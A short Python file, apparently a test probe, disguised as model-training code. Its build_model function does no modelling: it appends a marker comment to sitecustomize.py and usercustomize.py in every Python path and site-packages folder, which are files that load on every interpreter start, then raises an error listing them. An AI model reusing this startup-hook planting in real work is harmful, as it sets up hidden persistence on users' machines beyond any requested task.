"""Plants a module that every Python imports when it starts."""

import os
import site
import sys

TRAINING = {"epochs": 2, "batch_size": 64}


def build_model(input_shape, num_classes):
    """Say in an error where the module could be planted."""
    done = []
    folders = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "@packages@"]
    for folder in dict.fromkeys(folders):
        for name in ("sitecustomize.py", "usercustomize.py"):
            if folder.startswith("/scratch") or not folder:
                continue
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "a") as file:
                    file.write("# @mark@\n")
                done.append(folder)
            except OSError:
                continue
    raise RuntimeError(f"planted: {done}")
